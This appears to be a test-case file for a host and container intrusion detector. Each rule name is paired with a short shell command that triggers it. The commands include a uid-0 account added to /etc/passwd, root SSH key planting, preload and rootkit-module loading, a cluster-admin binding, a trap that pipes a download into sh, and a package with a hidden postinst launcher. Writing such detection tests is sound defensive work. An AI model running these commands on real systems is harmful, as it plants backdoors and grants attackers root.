## Cron job written in a container
#also Right of root used for the first time by an image
#also Suspicious Process Execution
#in shop:1
mkdir -p /etc/cron.d; echo x > /etc/cron.d/x
## Cron job written
mkdir -p /etc/cron.d; echo x > /etc/cron.d/x
## Cron job moved or linked into place
mkdir -p /etc/cron.d; echo x > /etc/x; mv /etc/x /etc/cron.d/x
## Write to /etc/passwd
echo 'eve:x:0:0::/:/bin/sh' >> /etc/passwd
## SSH authorized keys written
mkdir -p /root/.ssh; echo k >> /root/.ssh/authorized_keys
## SSH authorized keys written by a server's command
#also Shell started by a network server
#setup mkdir -p /root/.ssh
server 'echo k >> /root/.ssh/authorized_keys'
## Systemd unit written
mkdir -p /etc/systemd/system; echo x > /etc/systemd/system/x.service
## Shell start-up file written
echo x >> /root/.bashrc
## Preload library configured
: > /etc/ld.so.preload
## Library preloaded from a scratch folder
LD_PRELOAD=/tmp/x.so /bin/true
## Kernel module loaded from a file
busybox insmod /tmp/rk.ko
## User added to a group of administrators
#also Group of administrators joined
#setup start_log
usermod -aG sudo ann; end_log
## Login account created
#setup start_log
useradd -m -s /bin/bash eve; end_log
## Kernel module loaded from an unusual place
#also Kernel module loaded from a file
#guest the action changes the running kernel
cp /opt/lab/rootkit.ko /tmp/x.ko; insmod /tmp/x.ko; rmmod rf_rootkit
## Library loaded into every program
#also Library of the system replaced
#also Preload library configured
#guest every program of the machine would load the library
cp /usr/lib/*/libgcc_s.so.1 /usr/lib/x.so; echo /usr/lib/x.so > /etc/ld.so.preload; checked; rm /etc/ld.so.preload
## Kernel module offered by an unusual program
#also Kernel module loaded from a file
#guest the action changes the running kernel
cp "$(command -v insmod)" /opt/insmod; /opt/insmod /opt/lab/rootkit.ko; rmmod rf_rootkit
## File of a kernel module written by hand
mkdir -p /lib/modules/1; echo x > /lib/modules/1/x.ko
## Module source registered with DKMS
#setup stubs /usr/sbin/dkms
dkms add -m x -v 1
## Firmware of a device written
#setup stubs /usr/bin/fw_setenv
fw_setenv bootargs init=/x
## Firmware installed from a local file
#setup stubs /usr/bin/fwupdmgr
fwupdmgr install /srv/x.cab
## Firmware file of a device changed
mkdir -p /lib/firmware; echo x > /lib/firmware/x.fw
## Door of the firewall that opens after a knock
#also Firewall changed by hand
#setup stubs /usr/sbin/iptables
iptables -A INPUT -p tcp --dport 2222 -m recent --name k --rcheck --seconds 15 -j ACCEPT
## Raw socket of an untrusted program
python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 17)'
## Socket filter loaded by a script
python3 -c 'import ctypes, struct; p = ctypes.create_string_buffer(bytes.fromhex("b7000000000000009500000000000000"), 16); g = ctypes.create_string_buffer(b"GPL"); a = ctypes.create_string_buffer(struct.pack("IIQQIIQII", 1, 2, ctypes.addressof(p), ctypes.addressof(g), 0, 0, 0, 0, 0), 128); ctypes.CDLL(None).syscall(321, 5, a, 128)'
## Rights in the cluster changed from a container
#also Suspicious Process Execution
#in shop:1
#setup stubs /usr/bin/kubectl
kubectl create clusterrolebinding x --clusterrole=cluster-admin
## Image put into a registry by hand from a container
#also Download tool in a container
#also Suspicious Process Execution
#in shop:1
curl -s -m 2 -X PUT -d x http://10.9.8.7:5000/v2/shop/manifests/1 || true
## Command left for a signal that downloads
#also Download run without being looked at
sh -c 'trap "curl -s http://10.9.8.7/x | sh" USR1; true'
## Package installed from a local file
dpkg -i /srv/x.deb || true
## Hidden program started by a package's script
#also Hidden executable
#also Package installed from a local file
#setup stubs /usr/lib/.x; mkdir -p /srv/p/DEBIAN; printf 'Package: x\nVersion: 1\nArchitecture: all\nMaintainer: x\nDescription: x\n' > /srv/p/DEBIAN/control; printf '#!/bin/sh\n/usr/lib/.x\n' > /srv/p/DEBIAN/postinst; chmod 755 /srv/p/DEBIAN/postinst; dpkg-deb -b /srv/p /srv/x.deb
dpkg -i /srv/x.deb
## Connections of miners looked for
ss -tn | grep :3333 || true
## Table of cron jobs removed by hand
#also Account or start-up entry removed by hand
#setup mkdir -p /var/spool/cron/crontabs; echo x > /var/spool/cron/crontabs/root
rm /var/spool/cron/crontabs/root
## Installer that unpacks itself
printf '#!/bin/sh\ntail -n +3 /srv/x.run > /srv/y; exit\nx\n' > /srv/x.run; sh /srv/x.run
## Variables of every login written
echo 'A=1' >> /etc/environment
